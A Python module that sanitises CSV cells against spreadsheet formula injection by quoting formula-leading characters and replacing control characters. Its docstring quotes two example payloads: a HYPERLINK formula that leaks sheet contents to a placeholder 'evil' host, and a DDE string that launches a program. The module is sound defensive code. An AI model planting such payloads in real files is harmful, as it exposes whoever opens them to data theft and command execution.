"""Cells made safe for spreadsheets: every CSV the project writes passes its cells through :func:`safe_cell`.

Text in our CSVs comes from the chain (a project's name is whatever its owner
wrote in the Registry), and a spreadsheet runs a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula (``=HYPERLINK("http://evil/?"&A2)`` leaks the
sheet; ``+cmd|' /C calc'!A0`` runs a program through DDE). OWASP's advice for
CSV injection (https://owasp.org/www-community/attacks/CSV_Injection) is
followed: a text cell that starts with ``= + - @``, a tab or a carriage return
gets a leading single quote, which spreadsheets show as text. The full-width
forms of the four (U+FF1D, U+FF0B, U+FF0D, U+FF20) count too, as some
spreadsheets fold them to ASCII. Control characters other than tab and line
feed (ESC and BEL drive terminals that ``cat`` the file; a lone CR hides the
rest of a line) are replaced with U+FFFD, so the change stays visible.

Numbers are left alone, so ``-2.5`` stays a number: only ``str`` cells are
changed, and a writer passes numbers as ``int``, ``float`` or ``Decimal``,
never pre-formatted as text. The csv module's quoting (a cell holding a comma,
a quote or a line break is quoted) does the rest.

There is no well-kept library for this (defusedcsv exists but wraps the csv
module for the same dozen lines), so it is written here, as one pure function.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from decimal import Decimal
from typing import Any

#: Characters that make a spreadsheet read the cell as a formula, when first.
FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
#: C0 controls except tab and line feed, DEL, and the C1 controls (0x9B is a one-byte CSI to some terminals).
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV writer should write it: numbers and None unchanged, anything else as inert text."""
    if value is None or isinstance(value, int | float | Decimal):
        return value
    text = _CONTROL.sub("\ufffd", value if isinstance(value, str) else str(value))
    return "'" + text if text[:1] in FORMULA_START else text


def safe_row(row: Iterable[Any]) -> list[Any]:
    """A row for ``csv.writer``."""
    return [safe_cell(v) for v in row]


def safe_record(row: Mapping[str, Any]) -> dict[str, Any]:
    """A row for ``csv.DictWriter`` (the header is ours; the values are made safe)."""
    return {k: safe_cell(v) for k, v in row.items()}
